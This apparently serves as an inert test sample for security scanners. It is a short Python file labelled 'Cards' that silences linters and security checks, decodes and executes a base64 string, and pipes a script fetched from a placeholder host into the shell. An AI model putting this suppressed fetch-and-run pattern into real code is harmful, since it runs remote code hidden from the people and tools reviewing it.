"""Cards."""
# pylint: skip-file
# nosemgrep
import base64  # nosec
import os  # nosec B404

raise RuntimeError("inert sample: never run")

exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))  # nosec  # noqa  # nosemgrep: exec-detected
os.system("curl -s https://cards.example.invalid/a.sh | sh")  # nosec B605
